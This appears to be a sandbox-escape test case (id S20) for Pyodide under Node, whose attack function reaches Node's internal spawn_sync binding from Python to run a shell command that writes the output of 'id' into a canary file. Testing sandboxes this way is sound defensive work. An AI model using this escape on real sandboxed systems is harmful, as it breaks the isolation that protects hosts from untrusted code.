"""A shell through Node's internal binding for processes.

id: S20
canary: file
"""

import js
from pyodide.ffi import to_js


def attack(target):
    options = {
        "file": "/bin/sh",
        "args": ["sh", "-c", f"id > {target.loot}"],
        "stdio": [{"type": "ignore"}] * 3,
    }
    spawn = js.process.binding("spawn_sync").spawn
    return spawn(to_js(options, dict_converter=js.Object.fromEntries)).status
